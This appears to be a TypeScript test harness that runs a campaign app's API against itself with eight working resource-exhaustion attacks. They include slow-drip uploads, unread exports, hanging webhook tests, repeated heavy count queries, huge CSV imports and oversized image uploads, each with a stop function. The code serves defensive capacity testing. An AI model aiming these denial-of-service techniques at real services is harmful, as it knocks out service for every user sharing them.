/** What one customer can do to keep the connections of everybody: each attack begins, and gives what ends it. */
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { type AddressInfo, connect, type Socket } from 'node:net';
import sharp from 'sharp';

export interface Target {
  url: string;
  token: string;
  /** A list with rows, called AWKWARD_NAME, with a webhook to a server that never answers. */
  listId: number;
}

/** The name of a file is cut here, in the middle of a character of two units. */
export const AWKWARD_NAME = `${'a'.repeat(79)}😀`;

export type Attack = (target: Target, parallel: number) => { stop(): void };

export interface Message {
  method?: string;
  path: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
  /** Of a body of which only the beginning is sent. */
  announced?: number;
  /** Where it comes from, on the same machine. */
  localAddress?: string;
}

export function send(
  { url, token }: Pick<Target, 'url' | 'token'>,
  { method = 'POST', path, headers = {}, body = '', announced, localAddress }: Message,
): Socket {
  const { hostname, port } = new URL(url);
  const socket = connect({ port: Number(port), host: hostname, ...(localAddress && { localAddress }) });
  const lines = {
    host: 'localhost',
    authorization: `Bearer ${token}`,
    'content-type': 'application/json',
    'content-length': String(announced ?? Buffer.byteLength(body)),
    ...headers,
  };
  const head = Object.entries(lines).map(([name, value]) => `${name}: ${value}\r\n`);
  socket.on('error', () => {});
  socket.write(`${method} ${path} HTTP/1.1\r\n${head.join('')}\r\n`);
  socket.write(body);
  return socket;
}

const many = (parallel: number, open: () => Socket, isReading = true) => {
  const sockets = Array.from({ length: parallel }, open);
  if (isReading) for (const socket of sockets) socket.resume();
  const stop = () => {
    for (const socket of sockets) socket.destroy();
  };
  return { sockets, stop };
};

const keyed = () => ({ 'idempotency-key': randomUUID() });

const BOUNDARY = 'slow';
const multipart = { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` };
const fileHead = (name: string, type: string) =>
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n`;
const wholeFile = (name: string, type: string, bytes: Buffer) =>
  Buffer.concat([Buffer.from(fileHead(name, type)), bytes, Buffer.from(`\r\n--${BOUNDARY}--\r\n`)]);

const slowUploads: Attack = (target, parallel) => {
  const body = `${fileHead('a.csv', 'text/csv')}name\r\n`;
  const path = `/api/campaigns/${target.listId}/import`;
  const { sockets, stop } = many(parallel, () =>
    send(target, { path, headers: { ...multipart, ...keyed() }, body, announced: 1_000_000 }),
  );
  const dripping = setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write('a');
  }, 1000);
  return {
    stop: () => {
      clearInterval(dripping);
      stop();
    },
  };
};

const exportOf = ({ listId }: Target) => ({
  path: `/api/campaigns/${listId}/export`,
  body: JSON.stringify({ selection: { filter: {} } }),
});
const deafExports: Attack = (target, parallel) => many(parallel, () => send(target, exportOf(target)), false);
/** It is the name that hurts, so no rows are asked for. */
const awkwardExports: Attack = (target, parallel) => {
  const body = JSON.stringify({ selection: { filter: { search: 'nobody is called so' } } });
  return repeated(parallel, () => send(target, closing({ ...exportOf(target), body })));
};

const slowWebhooks: Attack = (target, parallel) =>
  many(parallel, () => send(target, { path: `/api/campaign-webhook/${target.listId}/test`, headers: keyed() }));

const slowCards: Attack = (target, parallel) =>
  many(parallel, () => send(target, { path: '/api/cards/setup', headers: keyed() }));

export const closing = (message: Message): Message => ({
  ...message,
  headers: { ...message.headers, connection: 'close' },
});

/** Asked again as soon as they are answered. */
export function repeated(parallel: number, open: () => Socket) {
  let isOver = false;
  const sockets = new Set<Socket>();
  const ask = () => {
    const socket = open();
    sockets.add(socket.resume());
    socket.once('close', () => {
      sockets.delete(socket);
      if (!isOver) ask();
    });
  };
  for (let n = 0; n < parallel; n++) ask();
  return {
    stop: () => {
      isOver = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}

const heavyCounts: Attack = (target, parallel) => {
  const filters = Array.from({ length: 20 }, (_, n) => ({ column: 'name', operator: 'not like', value: `zz${n}` }));
  const body = JSON.stringify({ custom_search: filters });
  return repeated(parallel, () => send(target, closing({ path: `/api/local-results/${target.listId}/count`, body })));
};

/** 300,000 addresses in 4.6 MB, each time others. */
const longDoNotContact: Attack = (target, parallel) => {
  let files = 0;
  const next = () => {
    files += 1;
    const lines = Array.from({ length: 300_000 }, (_, n) => `${(n + files * 300_000).toString(36)}@a.test`);
    return wholeFile('a.csv', 'text/csv', Buffer.from(lines.join('\n')));
  };
  const path = '/api/do-not-contact/import';
  return many(parallel, () => send(target, { path, headers: { ...multipart, ...keyed() }, body: next() }));
};

const largePicture = await sharp({ create: { width: 5000, height: 4000, channels: 3, background: '#573BFF' } })
  .png({ compressionLevel: 1 })
  .toBuffer();
const largePictures: Attack = (target, parallel) => {
  const body = wholeFile('a.png', 'image/png', largePicture);
  const message = closing({ path: '/api/files/images', headers: multipart, body });
  return repeated(parallel, () => send(target, message));
};

export const ATTACKS = {
  slowUploads,
  deafExports,
  awkwardExports,
  slowWebhooks,
  slowCards,
  heavyCounts,
  largePictures,
  longDoNotContact,
};

/** A server that accepts every request and answers none. */
export async function startSilent() {
  let asked = 0;
  const server = createServer(() => {
    asked += 1;
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const stop = () => {
    server.closeAllConnections();
    server.close();
  };
  return { url: `http://127.0.0.1:${port}`, port, asked: () => asked, stop };
}
